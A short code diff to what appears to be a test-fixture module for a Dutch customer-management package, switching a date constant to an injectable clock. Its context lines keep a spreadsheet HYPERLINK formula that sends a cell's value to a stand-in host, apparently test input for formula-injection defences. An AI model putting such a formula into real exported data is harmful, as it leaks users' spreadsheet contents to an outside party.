@@ -4,6 +4,8 @@ from __future__ import annotations
 import datetime as dt
 from pathlib import Path
 
+from klantbeheer.data import clock
+
 LONG_CELL = "x" * 30_000
 FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1;"klik")'
 
@@ -68,4 +70,4 @@ def many_rows(path: Path, count: int, start: int = 10_000) -> Path:
     return path
 
 
-TODAY_PLUS = (dt.date.today() + dt.timedelta(days=400)).strftime("%d/%m/%Y")
+TODAY_PLUS = (clock.today() + dt.timedelta(days=400)).strftime("%d/%m/%Y")
